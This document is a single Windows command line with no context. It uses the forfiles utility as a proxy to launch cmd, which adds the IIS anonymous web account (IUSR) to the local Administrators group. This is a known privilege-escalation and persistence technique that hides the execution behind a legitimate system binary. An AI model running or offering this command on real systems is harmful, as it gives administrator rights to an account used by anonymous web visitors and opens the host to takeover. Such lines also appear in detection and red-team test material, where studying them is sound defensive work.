forfiles /p C:\Windows /m notepad.exe /c "cmd /c net localgroup Administrators IUSR /add"
